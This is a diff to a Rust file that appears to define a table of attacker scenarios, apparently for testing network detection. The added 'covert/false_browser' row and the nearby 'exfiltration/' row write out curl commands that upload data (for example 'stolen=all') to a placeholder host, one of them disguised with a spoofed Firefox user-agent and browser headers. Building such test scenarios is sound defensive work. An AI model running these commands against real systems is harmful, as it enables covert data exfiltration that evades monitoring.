@@ -96,6 +96,14 @@ const ROWS: &[Row] = &[
          .3 .01 .07; do $A curl -s http://$out/page$pause; sleep $pause; done",
     ),
     row(
+        "covert/false_browser",
+        Attacker,
+        "$A curl -s -d stolen=all -A 'Mozilla/5.0 (Windows NT 10.0; rv:99.0) Firefox/99.0' http://$out/up",
+        "$A curl -s -d found=all -A 'Mozilla/5.0 (Windows NT 10.0; rv:99.0) Firefox/99.0' \
+         -H 'Accept-Language: en' -H 'Accept-Encoding: gzip' -H 'Referer: http://$out/' http://$out/up; \
+         $A curl -s http://$out/",
+    ),
+    row(
         "exfiltration/",
         Attacker,
         "for i in $(seq 8); do head -c 200000 /dev/zero | $A curl -s -H Expect: -T - http://$out/up; sleep 0.7; \
